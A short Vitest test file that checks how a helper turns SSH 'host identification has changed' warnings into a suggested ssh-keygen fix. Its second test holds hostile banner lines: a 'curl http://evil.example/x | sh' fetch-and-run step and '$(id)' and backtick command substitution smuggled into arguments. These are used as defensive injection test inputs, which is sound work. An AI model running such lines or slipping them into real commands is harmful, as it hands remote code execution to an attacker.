import { expect, it } from 'vitest';
import { sshFault } from './faults.ts';

const CHANGED = '@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @';

it('names the command that ssh tells for a key that changed', () => {
  const said = `${CHANGED}\n  remove with:\r\n  ssh-keygen -f "/home/sam/.ssh/known_hosts" -R "[10.0.0.4]:2222"\r\n`;
  expect(sshFault('web', said)?.fault.todo).toContain(
    '`ssh-keygen -f "/home/sam/.ssh/known_hosts" -R "[10.0.0.4]:2222"`',
  );
});

it.each([
  '  ssh-keygen -f x -R y; curl http://evil.example/x | sh',
  "  ssh-keygen -f '$(id)' -R web",
  '  ssh-keygen -f x -R `id`',
])('takes no command from a banner: %s', (line) => {
  const todo = sshFault('sam@web', `${CHANGED}\n${line}\n`)?.fault.todo;
  expect(todo).toContain('`ssh-keygen -R web`');
  expect(todo).not.toMatch(/evil|id\b/);
});
